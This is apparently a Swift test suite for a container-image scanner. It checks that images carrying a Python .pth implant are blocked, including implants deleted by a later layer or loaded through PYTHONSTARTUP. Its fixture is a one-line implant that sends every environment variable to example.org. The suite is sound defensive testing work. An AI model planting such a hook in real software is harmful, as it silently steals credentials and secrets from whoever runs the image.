import Evidence
import Intake
import Policy
import TestSupport
import Testing

@Suite("The check of a container image")
struct ImageTests {
  private static let site = "usr/local/lib/python3.11/site-packages"
  private static let implant =
    "import os, urllib.request; urllib.request.urlopen('http://example.org/', data=repr(dict(os.environ)).encode())\n"

  private func check(_ image: ImageBuilder, _ wrapping: TarBuilder.Wrapping = .none) throws -> ArtifactReport {
    let directory = TemporaryDirectory()
    let path = directory.write("image.tar", image.docker(wrapping))
    let report = Intake.check([.path(path)], policy: Policy(.balanced), options: .forTests, now: Timestamp(seconds: 0))
    return try #require(report.artifacts.first)
  }

  private func rules(_ report: ArtifactReport) -> [String: Severity] {
    Dictionary(report.evidence.findings.map { ($0.rule, $0.severity) }, uniquingKeysWith: max)
  }

  private let demo = ImageBuilder.Layer.distribution("demo", in: site, [("demo/__init__.py", "")], .gzip)

  @Test("admits one whose packages account for every file")
  func clean() throws {
    let report = try check(ImageBuilder([demo]), .gzip)
    #expect(report.evidence.kind == .image)
    #expect(report.decision.verdict == .admit)
    #expect(report.evidence.isComplete)
    #expect(report.evidence.sha256 != nil)
  }

  @Test("blocks one with an implant, and says from which file it acts")
  func implanted() throws {
    let report = try check(ImageBuilder([demo, ImageBuilder.Layer([("\(Self.site)/x.pth", Self.implant)], .zstd)]))
    #expect(report.decision.verdict == .block)
    #expect(rules(report)["PRQ101"] == .critical)
    #expect(rules(report)["PRQ140"] == .critical)
    #expect(report.evidence.findings.first?.chain.first?.path == "\(Self.site)/x.pth")
    #expect(report.evidence.excerpts.contains { $0.path == "\(Self.site)/x.pth" })
  }

  @Test("blocks one whose implant was deleted again")
  func deleted() throws {
    let report = try check(
      ImageBuilder([
        demo, ImageBuilder.Layer([("\(Self.site)/x.pth", Self.implant)]),
        ImageBuilder.Layer([("\(Self.site)/.wh.x.pth", "")]),
      ]))
    #expect(report.decision.verdict == .block)
    #expect(rules(report)["PRQ101"] == .critical)
    #expect(rules(report)["PRQ141"] == .high)
    #expect(rules(report)["PRQ140"] == nil)
  }

  @Test("calls an unowned hook that does nothing a habit")
  func habit() throws {
    let report = try check(ImageBuilder([demo, ImageBuilder.Layer([("\(Self.site)/x.pth", "import demo\n")])]))
    #expect(rules(report)["PRQ140"] == .medium)
    let paths = try check(ImageBuilder([demo, ImageBuilder.Layer([("\(Self.site)/x.pth", "/app\n")])]))
    #expect(rules(paths)["PRQ140"] == .low)
  }

  @Test("judges what variables of its configuration load")
  func configuration() throws {
    var image = ImageBuilder([demo, ImageBuilder.Layer([("srv/start.py", Self.implant)])])
    image.environment = ["PYTHONSTARTUP=/srv/start.py"]
    let report = try check(image)
    #expect(rules(report)["PRQ142"] == .medium)
    #expect(rules(report)["PRQ101"] == .critical)
    image.environment = ["PYTHONPATH=/srv", "PYTHONUNBUFFERED=1"]
    #expect(rules(try check(image))["PRQ142"] == nil)
  }

  @Test("never admits one that could not be read to its end")
  func truncated() throws {
    var layer = demo
    layer.replacement = Array(layer.data.prefix(100))
    let report = try check(ImageBuilder([layer]))
    #expect(!report.evidence.isComplete)
    #expect(report.decision.verdict != .admit)
  }
}
